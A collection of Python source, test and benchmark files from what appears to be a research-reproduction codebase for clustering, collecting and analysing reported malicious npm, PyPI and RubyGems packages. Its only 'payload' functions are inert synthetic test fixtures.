    n = len(artifacts)
    labels = np.full(n, -1, dtype=np.int64)
    if n == 0:
        return SimilarityResult(
            groups=[], labels=labels, kmeans_k=0, timings=SimilarityTimings()
        )
    embedder = AstEmbedder(
        dim=config.dim,
        structural_weight=config.structural_weight,
        lexical_weight=config.lexical_weight,
    )
    timings = SimilarityTimings(artifacts=n, jobs=config.jobs)
    started = time.perf_counter()
    X = _embed_artifacts(embedder, artifacts, config.jobs, store, timings)
    timings.embed_seconds = time.perf_counter() - started

    started = time.perf_counter()
    result, trace = grow_kmeans(
        X,
        start_k=config.start_k,
        max_k=config.max_k,
        seed=config.seed,
        duplicate_eps=config.duplicate_eps,
    )
    timings.cluster_seconds = time.perf_counter() - started

    started = time.perf_counter()
    groups: List[List[int]] = []
    for members in result.clusters():
        if config.min_similarity is None:
            split = [members]
        else:
            split = _similarity_components(X, members, config.min_similarity)
        for component in split:
            if len(component) >= 2:
                groups.append(sorted(int(i) for i in component))
    groups.sort(key=lambda g: (-len(g), g[0]))
    for group_id, members in enumerate(groups):
        for member in members:
            labels[member] = group_id
    timings.split_seconds = time.perf_counter() - started
    return SimilarityResult(
        groups=groups,
        labels=labels,
        kmeans_k=result.k,
        trace=trace,
        timings=timings,
    )


def _embed_artifacts(
    embedder: AstEmbedder,
    artifacts: Sequence[PackageArtifact],
    jobs: int,
    store,
    timings: SimilarityTimings,
) -> np.ndarray:
    """Embed through the persistent cache (when a store is given)."""
    shas = {artifact.sha256() for artifact in artifacts}
    timings.unique_artifacts = len(shas)
    if store is None:
        timings.cache_misses = len(shas)
        return embedder.embed_many(artifacts, jobs=jobs)
    embedder_fp = embedder.fingerprint()
    cache = store.embedding_memory(embedder_fp)
    missing = sorted(sha for sha in shas if sha not in cache)
    if missing:
        cache.update(store.load_embeddings(embedder_fp, missing))
    to_compute = [sha for sha in shas if sha not in cache]
    timings.cache_hits = len(shas) - len(to_compute)
    timings.cache_misses = len(to_compute)
    X = embedder.embed_many(artifacts, jobs=jobs, cache=cache)
    if to_compute:
        store.save_embeddings(
            embedder_fp,
            {sha: cache[sha] for sha in to_compute},
            embedder_payload(embedder),
        )
    return X


def embedder_payload(embedder: AstEmbedder) -> dict:
    """The embedder knobs stamped into ``embeddings`` cache metadata."""
    from repro.core.embedding import FEATURE_VERSION

    return {
        "embedder": {
            "feature_version": FEATURE_VERSION,
            "dim": embedder.dim,
            "structural_weight": embedder.structural_weight,
            "lexical_weight": embedder.lexical_weight,
            "max_tokens": embedder.max_tokens,
        }
    }


def _similarity_components(
    X: np.ndarray, members: np.ndarray, threshold: float
) -> List[List[int]]:
    """Split one cluster into cosine >= threshold connected components.

    Works on *unique* vectors (duplicated code collapses to one point), so
    even the registering-flood cluster with thousands of identical
    packages costs one row — and the cosine matrix is materialised in
    :data:`SIMILARITY_BLOCK_ROWS` row blocks, so no single cluster can
    demand an O(m²) allocation at once.
    """
    vectors = X[members]
    unique, inverse = np.unique(vectors.round(9), axis=0, return_inverse=True)
    m = unique.shape[0]
    if m == 1:
        return [list(members)]
    parent = list(range(m))

    def find(i: int) -> int:
        while parent[i] != i:
            parent[i] = parent[parent[i]]
            i = parent[i]
        return i

    for block_start in range(0, m, SIMILARITY_BLOCK_ROWS):
        block = unique[block_start : block_start + SIMILARITY_BLOCK_ROWS]
        sims = block @ unique.T
        rows, cols = np.nonzero(sims >= threshold)
        for i, j in zip((rows + block_start).tolist(), cols.tolist()):
            if i < j:
                ri, rj = find(i), find(j)
                if ri != rj:
                    parent[rj] = ri
    components: Dict[int, List[int]] = {}
    for position, member in enumerate(members):
        root = find(int(inverse[position]))
        components.setdefault(root, []).append(int(member))
    return list(components.values())
