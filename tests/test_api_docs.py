"""The generated API reference stays in sync with the code."""

from __future__ import annotations

import runpy
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
SCRIPT = ROOT / "scripts" / "gen_api_docs.py"


def _run(argv):
    saved = sys.argv
    sys.argv = [str(SCRIPT)] + argv
    try:
        runpy.run_path(str(SCRIPT), run_name="__main__")
    except SystemExit as stop:
        return int(stop.code or 0)
    finally:
        sys.argv = saved
    return 0


def test_api_docs_up_to_date(capsys):
    assert _run(["--check"]) == 0, (
        "docs/API.md is stale; run scripts/gen_api_docs.py"
    )


def test_api_docs_cover_key_modules():
    text = (ROOT / "docs" / "API.md").read_text()
    for marker in (
        "## `repro.core.malgraph`",
        "## `repro.analysis.overlap`",
        "## `repro.collection.pipeline`",
        "## `repro.detection.detector`",
        "class MalGraph",
        "def compute_overlap_matrix",
    ):
        assert marker in text


def test_api_docs_regeneration_roundtrip(tmp_path, capsys):
    target = tmp_path / "API.md"
    assert _run(["--out", str(target)]) == 0
    assert target.exists()
    assert target.read_text() == (ROOT / "docs" / "API.md").read_text()
