"""Fig. 4 — CDF of duplicated-group size for NPM, PyPI and RubyGems.

Paper shape: roughly 80% of malicious packages are reported by only one
source, and only ~10% by more than three sources.
"""

from __future__ import annotations


def test_fig4_dg_cdf(benchmark, artifacts, show):
    cdf = benchmark(artifacts.fig4_dg_cdf)
    show("Fig. 4: CDF of DG size (NPM, PyPI, RubyGems)", cdf.render())

    assert set(cdf.per_ecosystem) >= {"npm", "pypi", "rubygems"}
    assert cdf.single_source_fraction >= 0.5, (
        "most packages are reported by a single source (paper: ~80%)"
    )
    assert cdf.more_than_three_fraction <= 0.25, (
        "few packages are reported by more than three sources (paper: ~10%)"
    )
    for points in cdf.per_ecosystem.values():
        fractions = [p.fraction for p in points]
        assert fractions == sorted(fractions), "CDF must be non-decreasing"
