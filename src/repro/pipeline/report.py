"""Observability over the stage DAG: what ran, what was cached, how long.

Every stage resolution appends one :class:`StageRun` to a
:class:`PipelineReport` — a hit (served from the memory tier, loaded
from disk, or elided because a downstream artifact made the stage
unnecessary) or a miss (built from scratch). The CLI exposes the
process-wide report via ``--report`` / ``--report-json`` and the
``warm`` command; ``scripts/smoke_pipeline.py`` asserts on its counts.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

def current_peak_rss_kb() -> Optional[int]:
    """This process's peak RSS in KiB (``None`` where unsupported).

    Prefers ``VmHWM`` from ``/proc/self/status``: unlike ``ru_maxrss``
    it is reset when a process execs, so a freshly spawned child (the
    scaling benchmark measures every corpus pass that way) reports its
    own footprint instead of inheriting the parent's high-water mark.
    Falls back to ``getrusage`` elsewhere — kibibytes on Linux, bytes on
    macOS, normalised here so report rows and benches agree on units.
    """
    try:
        with open("/proc/self/status", encoding="ascii") as status:
            for line in status:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1])
    except (OSError, ValueError, IndexError):  # pragma: no cover - no procfs
        pass
    try:
        import resource
        import sys
    except ImportError:  # pragma: no cover - non-POSIX platforms
        return None
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    if sys.platform == "darwin":  # pragma: no cover - bytes on macOS
        peak //= 1024
    return int(peak)


#: A stage served from cache (memory, disk, or elided entirely).
STATUS_HIT = "hit"
#: A stage that had to be built.
STATUS_MISS = "miss"

SOURCE_MEMORY = "memory"
SOURCE_DISK = "disk"
SOURCE_BUILD = "build"
#: The stage was never executed because a downstream artifact resolved
#: from cache without needing it (e.g. the world simulation when the
#: collected dataset came off disk).
SOURCE_ELIDED = "elided"


@dataclass
class StageRun:
    """One resolution of one stage."""

    stage: str
    status: str  # STATUS_HIT | STATUS_MISS
    source: str  # SOURCE_MEMORY | SOURCE_DISK | SOURCE_BUILD | SOURCE_ELIDED
    seconds: float
    fingerprint: str
    #: process peak RSS (``ru_maxrss``, KiB) sampled when the stage
    #: resolved; high-water mark, so deltas between rows bound a stage's
    #: own footprint. ``None`` for rows recorded before the sampler ran.
    peak_rss_kb: Optional[int] = None

    def to_dict(self) -> dict:
        return {
            "stage": self.stage,
            "status": self.status,
            "source": self.source,
            "seconds": self.seconds,
            "fingerprint": self.fingerprint,
            "peak_rss_kb": self.peak_rss_kb,
        }


@dataclass
class SubstageRun:
    """One timed substage of a stage build (e.g. the malgraph stage's
    embed / cluster / split phases), with counters such as embedding
    cache hits in ``detail``."""

    stage: str
    name: str
    seconds: float
    detail: Dict[str, Any] = field(default_factory=dict)

    def to_dict(self) -> dict:
        return {
            "stage": self.stage,
            "name": self.name,
            "seconds": self.seconds,
            "detail": dict(self.detail),
        }


@dataclass
class PipelineReport:
    """Append-only log of stage resolutions plus aggregate counts."""

    runs: List[StageRun] = field(default_factory=list)
    substages: List[SubstageRun] = field(default_factory=list)

    def record(
        self,
        stage: str,
        status: str,
        source: str,
        seconds: float,
        fingerprint: str,
        peak_rss_kb: Optional[int] = None,
    ) -> StageRun:
        if peak_rss_kb is None:
            peak_rss_kb = current_peak_rss_kb()
        run = StageRun(
            stage=stage,
            status=status,
            source=source,
            seconds=seconds,
            fingerprint=fingerprint,
            peak_rss_kb=peak_rss_kb,
        )
        self.runs.append(run)
        return run

    def record_substage(
        self,
        stage: str,
        name: str,
        seconds: float,
        detail: Optional[Dict[str, Any]] = None,
    ) -> SubstageRun:
        run = SubstageRun(
            stage=stage, name=name, seconds=seconds, detail=detail or {}
        )
        self.substages.append(run)
        return run

    def counts(self) -> Dict[str, Dict[str, int]]:
        """Per-stage ``{"hits": n, "misses": n}`` totals."""
        totals: Dict[str, Dict[str, int]] = {}
        for run in self.runs:
            bucket = totals.setdefault(run.stage, {"hits": 0, "misses": 0})
            if run.status == STATUS_HIT:
                bucket["hits"] += 1
            else:
                bucket["misses"] += 1
        return totals

    @property
    def total_seconds(self) -> float:
        return sum(run.seconds for run in self.runs)

    def clear(self) -> None:
        self.runs.clear()
        self.substages.clear()

    def to_dict(self) -> dict:
        return {
            "runs": [run.to_dict() for run in self.runs],
            "substages": [run.to_dict() for run in self.substages],
            "counts": self.counts(),
            "total_seconds": self.total_seconds,
        }

    def render(self) -> str:
        """ASCII table of every stage resolution, oldest first."""
        lines = [
            "pipeline report",
            "stage       status  source   seconds  peak_rss_mb",
        ]
        for run in self.runs:
            rss = (
                f"{run.peak_rss_kb / 1024.0:11.1f}"
                if run.peak_rss_kb is not None
                else f"{'-':>11}"
            )
            lines.append(
                f"{run.stage:<11} {run.status:<7} {run.source:<8} "
                f"{run.seconds:8.3f}  {rss}"
            )
        for sub in self.substages:
            detail = ", ".join(f"{k}={v}" for k, v in sorted(sub.detail.items()))
            lines.append(
                f"  {sub.stage}.{sub.name:<17} {sub.seconds:8.3f}"
                + (f"  ({detail})" if detail else "")
            )
        counts = self.counts()
        summary = ", ".join(
            f"{stage}: {c['hits']} hit / {c['misses']} miss"
            for stage, c in sorted(counts.items())
        )
        lines.append(summary if summary else "(no stages resolved)")
        return "\n".join(lines)
