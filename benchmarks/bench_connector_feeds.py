"""Connector-framework and /v1/feed gates (not a paper table).

Three correctness gates over the ingest/export seam, run standalone
(what CI runs)::

    PYTHONPATH=src python benchmarks/bench_connector_feeds.py --fast

1. **Null-plan byte identity** — the connector template (fetch → parse
   → validate → normalise) now sits under every open-dataset source, so
   a collection under the null fault plan must produce Table I/II input
   byte-identical to the plain pipeline: the serialised dataset of both
   runs is compared as bytes, every connector must report healthy, and
   the run must not be degraded.

2. **Recall vs sources-dark sweep** — darken a growing prefix of the
   dataset-kind sources and measure *recall*: the fraction of the
   fault-free dataset's entries the degraded run still collects. The
   gates: exact books (the skipped-source set is exactly the darkened
   set, each dark connector ends in the ``dark`` health state with its
   retry budget spent), recall 1.0 with nothing dark, and recall weakly
   decreasing as sources go dark — each loss bounded by the share of
   claims the darkened source contributed.

3. **Feed pagination under refresh** — a `/v1/feed` walk started on one
   generation keeps its cursor valid while a publish lands between
   *every* page request: zero duplicated and zero missed detections, in
   canonical order, while a fresh walk afterwards sees the new
   generation — and a cursor from an evicted generation answers 410
   (CursorExpired), never a silently wrong page.
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from typing import List, Tuple

from repro.collection.records import DatasetEntry, MalwareDataset, SourceClaim
from repro.connectors import HEALTH_DARK, HEALTH_HEALTHY
from repro.core.malgraph import MalGraph
from repro.ecosystem.package import PackageId, make_artifact
from repro.io.datasets import entry_to_dict
from repro.reliability import FaultPlan
from repro.service.cache import build_service
from repro.service.feed import CursorExpired, feed_item
from repro.service.index import IntelIndex
from repro.world import WorldConfig, build_world, collect, run_collection

PLAN_SEED = 23

#: Darkened cumulatively, in this order. These are the dataset-kind
#: sources that actually carry records in the bench world; darkening a
#: recordless source would be a no-op and prove nothing.
DARK_LADDER = ("maloss", "backstabber-knife", "mal-pypi")


def _dataset_bytes(result) -> bytes:
    return json.dumps(
        [entry_to_dict(e) for e in result.dataset.entries], sort_keys=True
    ).encode()


# ---------------------------------------------------------------------------
# gate 1: null-plan byte identity
# ---------------------------------------------------------------------------


def _byte_identity_gate(world) -> MalwareDataset:
    t0 = time.perf_counter()
    baseline = collect(world)
    plain = time.perf_counter() - t0
    t0 = time.perf_counter()
    null = run_collection(world, plan=FaultPlan(seed=PLAN_SEED))
    resilient = time.perf_counter() - t0

    assert not null.stats.degraded, "null plan must not degrade"
    assert null.stats.degradation is not None
    assert sum(null.stats.degradation.faults_injected.values()) == 0
    unhealthy = {
        key: h["state"]
        for key, h in null.stats.source_health.items()
        if h["state"] != HEALTH_HEALTHY
    }
    assert not unhealthy, f"null plan left connectors unhealthy: {unhealthy}"

    left, right = _dataset_bytes(baseline), _dataset_bytes(null)
    assert left == right, (
        "connector-template collection diverged from the plain pipeline "
        "under the null plan"
    )
    print(
        f"byte identity: {len(baseline.dataset.entries)} entries, "
        f"{len(left)} bytes identical across {len(null.stats.source_health)} "
        f"connectors (plain {plain:.2f}s, resilient {resilient:.2f}s)  OK"
    )
    return baseline


# ---------------------------------------------------------------------------
# gate 2: recall vs sources-dark sweep
# ---------------------------------------------------------------------------


def _dark_sweep_gate(world, baseline) -> None:
    baseline_keys = {e.package for e in baseline.dataset.entries}
    claims_by_source = {
        source: sum(
            1 for e in baseline.dataset.entries for c in e.claims
            if c.source == source
        )
        for source in DARK_LADDER
    }
    print(f"\n{'dark sources':>32} {'recall':>8} {'entries':>8} {'skipped':>8}")
    recalls: List[float] = []
    for count in range(len(DARK_LADDER) + 1):
        dark = DARK_LADDER[:count]
        result = run_collection(
            world, plan=FaultPlan(seed=PLAN_SEED, dark_sources=dark)
        )
        kept = {e.package for e in result.dataset.entries}
        recall = len(kept & baseline_keys) / len(baseline_keys)
        recalls.append(recall)
        report = result.stats.degradation
        assert result.stats.degraded == bool(dark)
        assert set(report.skipped_sources) == set(dark), (
            f"skipped {set(report.skipped_sources)} != darkened {set(dark)}"
        )
        for source in dark:
            health = result.stats.source_health[source]
            assert health["state"] == HEALTH_DARK, (source, health)
            assert report.feed_attempts[source] >= 2, (
                f"{source} went dark without spending its retry budget"
            )
            # every claim the dark source carried is gone from the books
            assert report.quarantined_records.get(source) is None
        label = "+".join(dark) or "(none)"
        print(
            f"{label:>32} {recall:>8.3f} {len(kept):>8} "
            f"{len(report.skipped_sources):>8}"
        )
    assert recalls[0] == 1.0, "nothing dark must mean full recall"
    for count in range(1, len(recalls)):
        assert recalls[count] <= recalls[count - 1] + 1e-9, (
            f"recall rose when {DARK_LADDER[count - 1]!r} went dark: {recalls}"
        )
        # the loss is bounded by the darkened source's claim share
        bound = claims_by_source[DARK_LADDER[count - 1]] / len(baseline_keys)
        assert recalls[count - 1] - recalls[count] <= bound + 1e-9
    print(f"dark sweep: recall {recalls[0]:.3f} -> {recalls[-1]:.3f}, books exact  OK")


# ---------------------------------------------------------------------------
# gate 3: feed pagination under refresh
# ---------------------------------------------------------------------------


def _mk_entry(name: str, code: str) -> DatasetEntry:
    """One synthetic malicious entry (no tests.* imports: CI runs this
    file with only ``src`` on the path)."""
    return DatasetEntry(
        package=PackageId("pypi", name, "1.0"),
        claims=[SourceClaim(source="snyk", report_day=12, shares_artifact=True)],
        artifact=make_artifact("pypi", name, "1.0", {"pkg/main.py": code}),
        artifact_origin="source:bench",
        release_day=10,
        downloads=0,
        campaign_id=None,
    )


def _feed_dataset(count: int, prefix: str) -> MalwareDataset:
    entries = [
        _mk_entry(f"{prefix}-{i:04d}", f"def payload():\n    return {i}\n")
        for i in range(count)
    ]
    return MalwareDataset(entries=entries, reports=[])


def _feed_pagination_gate(count: int, limit: int) -> None:
    service = build_service(MalGraph.build(_feed_dataset(count, "old")))
    original = [feed_item(e)["id"] for e in service.index.dataset.entries]

    seen: List[str] = []
    pages = 0
    publishes = 0
    t0 = time.perf_counter()
    page = service.feed.page(limit=limit)
    stale_cursor = page["next_cursor"]
    seen.extend(item["id"] for item in page["items"])
    pages += 1
    while page["next_cursor"] is not None:
        # a refresh lands between every pair of page requests
        publishes += 1
        grown = _feed_dataset(count, "old")
        grown.entries.extend(_feed_dataset(publishes, "new").entries)
        service.publish(IntelIndex.build(MalGraph.build(grown)))
        page = service.feed.page(cursor=page["next_cursor"], limit=limit)
        seen.extend(item["id"] for item in page["items"])
        pages += 1
    elapsed = time.perf_counter() - t0

    duplicates = len(seen) - len(set(seen))
    missed = len(set(original) - set(seen))
    assert seen == original, (
        f"walk across {publishes} refreshes: {duplicates} duplicated, "
        f"{missed} missed, order preserved={sorted(seen) == sorted(original)}"
    )
    fresh = service.feed.page(limit=min(1000, count + publishes))
    assert fresh["generation"] == service.generation
    assert fresh["total"] == count + publishes

    # a cursor whose generation has been evicted answers 410, never a
    # silently wrong page
    for _ in range(service.feed.keep_generations + 1):
        service.publish(IntelIndex.build(MalGraph.build(_feed_dataset(count, "old"))))
        service.feed.page(limit=1)
    try:
        service.feed.page(cursor=stale_cursor, limit=limit)
    except CursorExpired as expired:
        assert "restart" in str(expired)
    else:
        raise AssertionError("evicted-generation cursor served a page")
    print(
        f"\nfeed pagination: {len(seen)} items over {pages} pages with a "
        f"refresh between every pair ({elapsed:.2f}s), 0 duplicated, "
        f"0 missed; evicted cursor answered 410  OK"
    )


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        description="connector byte-identity, dark-source recall, and "
        "feed-pagination-under-refresh gates"
    )
    parser.add_argument("--seed", type=int, default=11)
    parser.add_argument("--scale", type=float, default=0.3)
    parser.add_argument("--feed-size", type=int, default=400)
    parser.add_argument("--page-limit", type=int, default=17)
    parser.add_argument(
        "--fast",
        action="store_true",
        help="CI mode: smaller world and feed (gates still run)",
    )
    args = parser.parse_args(argv)
    if args.fast:
        args.scale, args.feed_size, args.page_limit = 0.15, 120, 7

    t0 = time.perf_counter()
    world = build_world(WorldConfig(seed=args.seed, scale=args.scale))
    print(
        f"world seed={args.seed} scale={args.scale} "
        f"({time.perf_counter() - t0:.2f}s)"
    )
    baseline = _byte_identity_gate(world)
    _dark_sweep_gate(world, baseline)
    _feed_pagination_gate(args.feed_size, args.page_limit)
    print("\nall connector/feed gates passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
