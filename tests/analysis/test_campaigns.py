"""Fig. 8 example-campaign timeline and Fig. 9 active-period CDFs."""

from __future__ import annotations

import pytest

from repro.analysis.campaigns import (
    DAYS_PER_YEAR,
    compute_active_periods,
    pick_example_campaign,
)
from repro.core.groups import GroupKind
from repro.core.malgraph import MalGraph
from repro.core.similarity import SimilarityConfig

from tests.core.helpers import dataset, entry


def _burst_malgraph(size: int = 8, ecosystem: str = "npm", spacing: int = 1):
    code = "def payload():\n    return 'burst'\n"
    entries = [
        entry(
            f"burst-{i}",
            ecosystem=ecosystem,
            code=code,
            release_day=100 + i * spacing,
        )
        for i in range(size)
    ]
    return MalGraph.build(dataset(entries), SimilarityConfig(seed=0, max_k=3))


def test_pick_example_campaign_finds_burst():
    timeline = pick_example_campaign(_burst_malgraph())
    assert timeline is not None
    assert timeline.group.ecosystem == "npm"
    assert 6 <= timeline.group.size <= 30
    events = timeline.events()
    assert len(events) == timeline.group.size
    dates = [d for d, _name in events]
    assert dates == sorted(dates)


def test_pick_example_campaign_respects_size_bounds():
    assert pick_example_campaign(_burst_malgraph(size=3)) is None


def test_pick_example_campaign_respects_ecosystem():
    assert pick_example_campaign(_burst_malgraph(ecosystem="pypi")) is None
    assert pick_example_campaign(
        _burst_malgraph(ecosystem="pypi"), ecosystem="pypi"
    ) is not None


def test_pick_example_campaign_render():
    out = pick_example_campaign(_burst_malgraph()).render()
    assert "Fig. 8" in out
    assert "burst-0" in out


def test_active_periods_cdf_values():
    malgraph = _burst_malgraph(size=8, spacing=2)  # active period 14 days
    cdf = compute_active_periods(malgraph, kinds=(GroupKind.SG,))
    points = cdf.per_kind[GroupKind.SG]
    assert len(points) == 1
    assert points[0].value == 14.0
    assert points[0].fraction == 1.0
    assert cdf.p80_years[GroupKind.SG] == pytest.approx(14.0 / DAYS_PER_YEAR)


def test_active_periods_empty_kind():
    malgraph = _burst_malgraph()
    cdf = compute_active_periods(malgraph, kinds=(GroupKind.DEG,))
    assert cdf.per_kind[GroupKind.DEG] == []
    assert cdf.p80_years[GroupKind.DEG] == 0.0


def test_active_periods_render():
    out = compute_active_periods(_burst_malgraph()).render()
    assert "Fig. 9" in out
    assert "80th-percentile" in out


# -- world shape (RQ3) ------------------------------------------------------------

def test_world_active_period_ordering(paper):
    """Fig. 9: SG campaigns are the shortest, DeG the longest."""
    cdf = paper.fig9_active_periods()
    assert cdf.p80_years[GroupKind.SG] < cdf.p80_years[GroupKind.DEG]
    assert cdf.p80_years[GroupKind.SG] < 0.5  # days-to-weeks bursts
    assert cdf.p80_years[GroupKind.DEG] > 0.5  # multi-year dormancy


def test_world_fig8_campaign_exists(paper):
    timeline = paper.fig8_campaign()
    assert timeline is not None
    assert timeline.group.ecosystem == "npm"
    # a burst: several packages inside a short window
    assert timeline.group.size >= 6
    assert timeline.group.active_period_days <= 30
