"""Life-cycle trends: detection latency and persistence (Figs. 5/6/10).

The paper's life-cycle narrative rests on two quantities this module
measures from the collected dataset:

* **detection latency** — days from release to detection ("the OSS
  registry detects malicious packages quickly"), which shrank year over
  year as registry scanning matured;
* **persistence** — days from release to removal (the window in which a
  mirror could capture the package, and users could download it — the
  mechanism behind Fig. 5's *persisted too briefly* and Fig. 11's 0-1
  download medians).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

from repro.analysis.render import render_table
from repro.analysis.stats import BoxStats, box_stats
from repro.collection.records import MalwareDataset
from repro.ecosystem.clock import day_to_year


@dataclass
class YearTrend:
    """One calendar year's life-cycle statistics."""

    year: int
    packages: int
    latency: Optional[BoxStats]  # release -> detection
    persistence: Optional[BoxStats]  # release -> removal


@dataclass
class LifecycleTrends:
    """Latency/persistence trends over the study window."""

    years: List[YearTrend]

    def median_latency_by_year(self) -> Dict[int, float]:
        return {
            t.year: t.latency.median for t in self.years if t.latency is not None
        }

    def render(self) -> str:
        rows = []
        for trend in self.years:
            rows.append(
                [
                    trend.year,
                    trend.packages,
                    f"{trend.latency.median:g}" if trend.latency else "-",
                    f"{trend.latency.q3:g}" if trend.latency else "-",
                    f"{trend.persistence.median:g}" if trend.persistence else "-",
                ]
            )
        return render_table(
            ["year", "packages", "median latency", "p75 latency", "median persist"],
            rows,
            title=(
                "Life-cycle trends: days from release to detection / removal "
                "(Figs. 5/6/10 mechanism)"
            ),
        )


def compute_lifecycle_trends(dataset: MalwareDataset) -> LifecycleTrends:
    """Per-year latency/persistence box stats over dated entries."""
    latency_by_year: Dict[int, List[float]] = {}
    persist_by_year: Dict[int, List[float]] = {}
    counts: Dict[int, int] = {}
    for entry in dataset.entries:
        if entry.release_day is None:
            continue
        year = day_to_year(entry.release_day)
        counts[year] = counts.get(year, 0) + 1
        if entry.detection_day is not None:
            latency_by_year.setdefault(year, []).append(
                float(entry.detection_day - entry.release_day)
            )
        if entry.removal_day is not None:
            persist_by_year.setdefault(year, []).append(
                float(entry.removal_day - entry.release_day)
            )
    years = [
        YearTrend(
            year=year,
            packages=counts[year],
            latency=box_stats(latency_by_year.get(year, [])),
            persistence=box_stats(persist_by_year.get(year, [])),
        )
        for year in sorted(counts)
    ]
    return LifecycleTrends(years=years)
