"""LRU bounds, hit/miss accounting and batch deduplication."""

from __future__ import annotations

import pytest

from repro.service.cache import LRUCache
from repro.service.enrich import Indicator


def test_lru_rejects_silly_capacity():
    with pytest.raises(ValueError):
        LRUCache(0)


def test_lru_evicts_least_recently_used():
    cache = LRUCache(capacity=2)
    cache.put("a", 1)
    cache.put("b", 2)
    assert cache.get("a") == 1  # refresh a; b is now oldest
    cache.put("c", 3)
    assert "b" not in cache
    assert cache.get("b") is None
    assert cache.evictions == 1
    assert len(cache) == 2


def test_lru_counters():
    cache = LRUCache(capacity=4)
    cache.put("k", "v")
    assert cache.get("k") == "v"
    assert cache.get("missing") is None
    assert cache.stats() == {
        "size": 1, "capacity": 4, "hits": 1, "misses": 1, "evictions": 0,
    }


def test_service_hit_accounting(service, small_dataset):
    indicator = Indicator(name=small_dataset.entries[0].package.name)
    first = service.enrich(indicator)
    second = service.enrich(indicator)
    assert first is second  # served from cache, not recomputed
    assert service.cache.hits == 1
    assert service.cache.misses == 1


def test_cache_key_is_case_insensitive(service, small_dataset):
    name = small_dataset.entries[0].package.name
    service.enrich(Indicator(name=name))
    service.enrich(Indicator(name=name.upper()))
    assert service.cache.hits == 1


def test_batch_deduplicates_within_request(service, small_dataset):
    first = small_dataset.entries[0].package.name
    other = next(
        e.package.name
        for e in small_dataset.entries
        if e.package.name.lower() != first.lower()
    )
    a = Indicator(name=first)
    b = Indicator(name=other)
    results = service.batch_enrich([a, a, b, a])
    assert len(results) == 4
    assert results[0] is results[1] is results[3]
    # each distinct indicator resolved exactly once; intra-batch
    # duplicates never touch the cache counters
    assert service.cache.misses == 2
    assert service.cache.hits == 0


def test_batch_reuses_cache_across_requests(service, small_dataset):
    indicator = Indicator(name=small_dataset.entries[0].package.name)
    service.batch_enrich([indicator])
    service.batch_enrich([indicator, indicator])
    assert service.cache.misses == 1
    assert service.cache.hits == 1


def test_invalidate_clears_but_keeps_counters(service, small_dataset):
    indicator = Indicator(name=small_dataset.entries[0].package.name)
    service.enrich(indicator)
    service.invalidate()
    assert len(service.cache) == 0
    service.enrich(indicator)
    assert service.cache.misses == 2


def test_capacity_bounds_service_cache(engine, small_dataset):
    from repro.service.cache import EnrichmentService

    bounded = EnrichmentService(engine, capacity=8)
    for entry in small_dataset.entries[:20]:
        bounded.enrich(Indicator(name=entry.package.name))
    assert len(bounded.cache) <= 8
    assert bounded.cache.evictions > 0


def test_stats_merges_cache_and_index(service):
    stats = service.stats()
    assert set(stats) == {"cache", "index", "collection"}
    assert stats["index"]["packages"] == service.index.package_count
    assert stats["collection"] == {"degraded": False}
