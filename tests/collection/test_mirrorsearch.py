"""Mirror recovery and the Fig. 5 miss classification."""

from __future__ import annotations

import pytest

from repro.collection.mirrorsearch import (
    MissCause,
    RecoveryStats,
    classify_miss,
    recover_from_mirrors,
)
from repro.ecosystem.mirror import MirrorNetwork, MirrorRegistry
from repro.ecosystem.registry import Registry
from repro.ecosystem.package import make_artifact

from tests.core.helpers import entry


def _mirrored_registry():
    """A root registry + one archival mirror that synced day 50."""
    registry = Registry("pypi")
    artifact = make_artifact("pypi", "victim", "1.0", {"pkg/m.py": "X = 1\n"})
    mirror = MirrorRegistry(
        name="pypi-m1",
        upstream=registry,
        sync_interval=30,
        start_day=0,
        archival=True,
    )
    registry.publish(artifact, day=10, malicious=True)
    mirror.sync(30)  # captures the still-live package
    registry.mark_detected("victim", "1.0", 40, by="scanner")
    registry.remove("victim", "1.0", 41)
    network = MirrorNetwork([mirror])
    return registry, network


def test_recover_finds_archived_package():
    _registry, network = _mirrored_registry()
    gone = entry("victim", code=None)
    stats = recover_from_mirrors([gone], network)
    assert stats.attempted == 1
    assert stats.recovered == 1
    assert gone.available
    assert gone.artifact_origin == "mirror:pypi-m1"
    assert stats.recovery_rate == 1.0


def test_recover_skips_already_available():
    _registry, network = _mirrored_registry()
    have = entry("victim")
    origin_before = have.artifact_origin
    stats = recover_from_mirrors([have], network)
    assert stats.attempted == 0
    assert have.artifact_origin == origin_before


def test_recover_records_miss():
    _registry, network = _mirrored_registry()
    ghost = entry("never-existed", code=None)
    stats = recover_from_mirrors([ghost], network)
    assert stats.recovered == 0
    assert sum(stats.misses.values()) == 1


def test_classify_no_mirror_coverage():
    cause = classify_miss(entry("x", code=None), MirrorNetwork())
    assert cause is MissCause.NO_MIRROR_COVERAGE


def test_classify_released_too_early():
    registry = Registry("pypi")
    mirror = MirrorRegistry(
        name="m", upstream=registry, sync_interval=30, start_day=500, archival=True
    )
    network = MirrorNetwork([mirror])
    early = entry("x", code=None, release_day=100)
    assert classify_miss(early, network) is MissCause.RELEASED_TOO_EARLY


def test_classify_persisted_too_briefly():
    registry = Registry("pypi")
    mirror = MirrorRegistry(
        name="m", upstream=registry, sync_interval=30, start_day=0, archival=True
    )
    network = MirrorNetwork([mirror])
    brief = entry("x", code=None, release_day=100)
    assert classify_miss(brief, network) is MissCause.PERSISTED_TOO_BRIEFLY


def test_recovery_stats_record_miss():
    stats = RecoveryStats()
    stats.record_miss(MissCause.RELEASED_TOO_EARLY)
    stats.record_miss(MissCause.RELEASED_TOO_EARLY)
    assert stats.misses[MissCause.RELEASED_TOO_EARLY] == 2
    assert stats.recovery_rate == 0.0
