"""Scaling study — pipeline cost vs world scale (not a paper table).

Times the end-to-end pipeline (world → collection → MALGRAPH) at three
world scales and checks the cost curve stays near-linear in the corpus
size: the clique-compressed graph and the hash-deduplicated embedding
cache are what keep the similar-edge stage from going quadratic on
flood campaigns.
"""

from __future__ import annotations

import pytest

from repro.core.malgraph import MalGraph
from repro.world import WorldConfig, build_world, collect

SCALES = (0.1, 0.25, 0.5)


def _end_to_end(scale: float) -> int:
    world = build_world(WorldConfig(seed=11, scale=scale))
    dataset = collect(world).dataset
